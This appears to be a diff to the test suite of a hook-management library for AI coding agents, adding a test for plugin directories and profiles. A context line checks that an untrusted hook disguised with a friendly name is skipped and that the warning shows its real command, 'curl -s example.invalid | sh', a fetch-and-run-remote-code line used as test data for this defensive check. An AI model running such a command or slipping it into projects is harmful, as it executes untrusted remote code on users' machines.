@@ -140,3 +140,22 @@ def test_untrusted_warning_shows_the_command_a_friendly_name_hides(tmp_path: Pat
     out = json.loads(_cli(project, env, "fire", "BeforeAgent", "--prompt", "x", "--json").stdout)
     assert out["hooks"][0]["outcome"] == "skipped"
     assert any("formatter" in w and "would run: curl -s example.invalid | sh" in w for w in out["warnings"])
+
+
+def test_python_api_takes_plugin_dirs_and_a_profile(tmp_path: Path) -> None:
+    from hookwise import HookSystem
+
+    env = _env(tmp_path)
+    project = tmp_path / "proj"
+    _write(project / ".terminai" / "settings.json", _hooks(REPORT, "t"))
+    plugin = tmp_path / "plug"
+    (plugin / "hooks").mkdir(parents=True)
+    (plugin / "hooks" / "hooks.json").write_text(json.dumps({"hooks": {"UserPromptSubmit": [{"hooks": [
+        {"type": "command", "command": "echo \"$CLAUDE_PLUGIN_ROOT\" > \"$CLAUDE_PLUGIN_DATA/root.txt\""}]}]}}))
+    with HookSystem(project, env=env, plugin_dirs=[plugin], profile="terminai") as hs:
+        assert hs.settings.profile.name == "terminai"
+        assert sorted(e.source for e in hs.entries) == ["plugin", "project"]
+        result = hs.fire("BeforeAgent", prompt="hi")
+        assert [h.outcome.value for h in result.hooks] == ["ok", "ok"]
+    data = Path(env["HOME"]) / ".gemini" / "plugin-data" / "plug" / "root.txt"
+    assert data.read_text().strip() == str(plugin)
